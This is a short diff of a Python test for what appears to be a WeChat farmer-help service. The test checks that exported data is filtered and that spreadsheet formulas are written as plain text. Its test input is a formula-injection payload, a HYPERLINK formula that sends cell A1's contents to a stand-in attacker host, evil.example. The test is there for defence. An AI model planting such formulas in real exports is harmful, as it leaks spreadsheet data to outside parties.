@@ -263,7 +263,7 @@ def test_exports_are_filtered_and_write_formulas_as_text(
     plain_wechat: FakeWeChat,
     county: None,
 ) -> None:
-    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看") 种粮补贴怎么领'
     post(client, plain_wechat, plain_wechat.text("farmer-x", formula))
     post(client, plain_wechat, plain_wechat.text("farmer-y", "我家的猪不吃食"))
     viewer = signed_in("viewer1")
